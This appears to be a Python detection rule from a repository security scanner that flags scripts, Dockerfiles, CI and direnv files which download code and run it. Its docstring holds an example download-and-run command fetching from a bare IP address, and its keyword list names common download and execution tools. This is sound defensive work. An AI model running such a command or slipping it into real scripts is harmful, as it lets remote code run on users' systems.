"""What it sees
    A script, Makefile, Dockerfile, compose file, CI workflow or direnv file whose commands download code and run it,
    decode text and run it, or run a file that is not code.

Why it matters
    `curl ... | sh` is how many tools are installed, so alone it is only context. From a bare address, a link
    shortener, a throw-away host, or in disguise it is how the second stage of an attack arrives.

Example
    start.sh:  curl -s http://203.0.113.7/setup | bash

What to do
    Read what would be fetched without running it; look at who starts this file.

False alarms
    Installers of known tools and steps in images are reported as low.

References
    ATT&CK T1105, T1059.004, T1059.003.
"""

import posixpath
from collections.abc import Iterator

from lazaretto.detect.commands import Danger, need_whole, on_request, uninvited
from lazaretto.detect.project import normal
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity, Signal
from lazaretto.model.text import N_
from lazaretto.parse.runfiles import Kind, RunFile
from lazaretto.parse.shell_facts import Facts

_PHASES = {Kind.DOCKER: Phase.BUILD, Kind.CI: Phase.BUILD, Kind.ENVRC: Phase.OPEN}
_RANK = {severity: severity.value for severity in Severity}


def check(view: RunFile) -> Iterator[Match | Signal]:
    """Judge every step; the steps of one file give one finding for each kind of danger."""
    phase = _PHASES.get(view.kind, Phase.RUN)
    seen: set[tuple[str, str]] = set()
    for step, facts in view.facts:
        yield from _run_signals(view, facts, step.line)
        worst = uninvited(facts)
        if worst is not None and worst.severity >= Severity.HIGH and worst.confidence >= Confidence.HIGH:
            yield Signal("runs-foreign-code", worst.detail[:300], view.path, step.line + worst.line - 1)
        danger = _judge(view, facts)
        if danger is None or (danger.template, danger.detail) in seen:
            continue
        seen.add((danger.template, danger.detail))
        yield danger.match(view.blob.name, step.line, step.text, phase)
    need_whole(*(facts for _, facts in view.facts))


def _judge(view: RunFile, facts: Facts) -> Danger | None:
    # direnv runs `.envrc` when the folder is entered, once the user has allowed it; nobody asked for hidden commands
    return uninvited(facts) if view.kind is Kind.ENVRC or view.blob.layer else on_request(facts)


def _run_signals(view: RunFile, facts: Facts, line: int) -> Iterator[Signal]:
    """When this file runs, it runs others: from its own folder or, more often, from the top of the project."""
    if view.kind not in {Kind.SHELL, Kind.BATCH, Kind.POWERSHELL, Kind.ENVRC, Kind.MAKE, Kind.JUST}:
        return
    for run in facts.runs[:50]:
        if run.path.startswith(("/", "~", "$", "%")):
            continue
        for folder in dict.fromkeys((posixpath.dirname(view.path), "")):
            target = normal(posixpath.join(folder, run.path))
            if target and not target.startswith(".."):
                yield Signal("run", target, view.path, line + run.line - 1)


RULE = Rule(
    id="repo/download-and-run",
    title=N_("Commands download code and run it"),
    view=RunFile,
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
    phase=Phase.RUN,
    role=Role.FETCH,
    check=check,
    doc=__doc__,
    techniques=("T1105", "T1059.004"),
    needles=(
        b"curl", b"wget", b"iwr", b"irm", b"invoke-", b"downloadstring", b"base64", b"powershell", b"pwsh", b"mshta",
        b"certutil", b"bitsadmin", b"regsvr32", b"rundll32", b"node", b"python", b"openssl", b"xxd", b"eval", b"fetch",
        b"bash", b"source ", b"./",
    ),
    fold_case=True,
)  # fmt: skip
